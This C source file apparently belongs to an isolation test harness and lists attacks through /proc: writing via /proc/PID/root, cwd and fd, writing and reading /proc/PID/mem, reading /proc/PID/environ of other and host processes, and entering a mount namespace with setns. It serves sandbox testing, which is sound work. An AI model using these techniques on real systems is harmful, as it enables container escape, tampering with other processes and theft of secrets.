// Ways to other processes through the files of /proc.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"

static const char* Of(const char* target, const char* rest) { return Path("/proc/%s/%s", Target(target), rest); }

static bool WriteMemory(const char* target) {
  int fd = open(Of(target, "mem"), O_RDWR | O_CLOEXEC);
  return fd >= 0 && pwrite(fd, "attacked", 8, (off_t)TargetNumber("ADDRESS")) == 8;
}

static bool ReadMemory(const char* target) {
  char text[64];
  int fd = open(Of(target, "mem"), O_RDONLY | O_CLOEXEC);
  ssize_t length = fd < 0 ? -1 : pread(fd, text, sizeof text, (off_t)TargetNumber("ADDRESS"));
  return length > 0 && write(STDOUT_FILENO, text, (size_t)length) == length;
}

static bool Root(void) { return WriteTo(Path("%s%s", Of("VICTIM", "root"), Outside("f"))); }
static bool HostRoot(void) { return WriteTo(Path("/proc/%s/root%s", Target("HOST"), Outside("f"))); }
static bool Folder(void) { return WriteTo(Of("VICTIM", "cwd/f")); }
static bool Descriptor(void) { return WriteTo(Of("VICTIM", "fd/9")); }
static bool Memory(void) { return WriteMemory("VICTIM"); }
static bool MemoryOfBare(void) { return WriteMemory("BARE"); }
static bool MemoryRead(void) { return ReadMemory("VICTIM"); }
static bool Environment(void) { return PrintFile(Of("VICTIM", "environ")); }
static bool EnvironmentOfBare(void) { return PrintFile(Of("BARE", "environ")); }
static bool EnvironmentOfHost(void) { return PrintFile(Of("HOST", "environ")); }
static bool EnterMounts(void) {
  int fd = open(Of("VICTIM", "ns/mnt"), O_RDONLY | O_CLOEXEC);
  return fd >= 0 && !setns(fd, CLONE_NEWNS) && WriteTo(Outside("f"));
}

static bool RootOfAll(void) {
  DIR* processes = opendir("/proc");
  bool written = false;
  for (struct dirent* entry; processes && (entry = readdir(processes));)
    if (atoi(entry->d_name) > 0) written |= WriteTo(Path("/proc/%s/root%s", entry->d_name, Outside("f")));
  return written;
}

const Attack kProcessFileAttacks[] = {
    {"process-root", Root, kAnyone, kSeenByChange, "writes through /proc/PID/root of an outside process"},
    {"process-root-of-host", HostRoot, kRootOnly, kSeenByChange, "the same of the host process"},
    {"process-root-of-all", RootOfAll, kAnyone, kSeenByChange, "the same of every process that can be seen"},
    {"process-folder", Folder, kAnyone, kSeenByChange, "writes through /proc/PID/cwd"},
    {"process-descriptor", Descriptor, kAnyone, kSeenByChange, "opens a descriptor of /proc/PID/fd for writing"},
    {"process-memory", Memory, kAnyone, kSeenByChange, "writes to /proc/PID/mem"},
    {"process-memory-of-bare", MemoryOfBare, kAnyone, kSeenByChange, "the same of a process without capabilities"},
    {"process-memory-read", MemoryRead, kAnyone, kSeenBySecret, "reads /proc/PID/mem"},
    {"process-environment", Environment, kAnyone, kSeenBySecret, "reads /proc/PID/environ"},
    {"process-environment-of-bare", EnvironmentOfBare, kAnyone, kSeenBySecret,
     "the same of a process without capabilities"},
    {"process-environment-of-host", EnvironmentOfHost, kRootOnly, kSeenBySecret, "the same of the host process"},
    {"enter-mounts", EnterMounts, kRootOnly, kSeenByChange, "nsenter into the mount namespace of /proc/PID/ns"},
    {0},
};
